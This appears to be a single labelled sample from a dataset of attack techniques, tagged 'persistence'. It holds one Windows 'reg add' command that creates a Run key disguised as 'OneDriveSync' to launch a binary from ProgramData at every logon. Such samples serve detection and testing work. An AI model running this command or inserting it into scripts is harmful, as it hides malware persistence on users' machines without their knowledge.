# description: Adds a user Run key with reg add that starts a binary from ProgramData.
# family: persistence
reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v OneDriveSync /t REG_SZ /d "C:\ProgramData\odsync.exe" /f
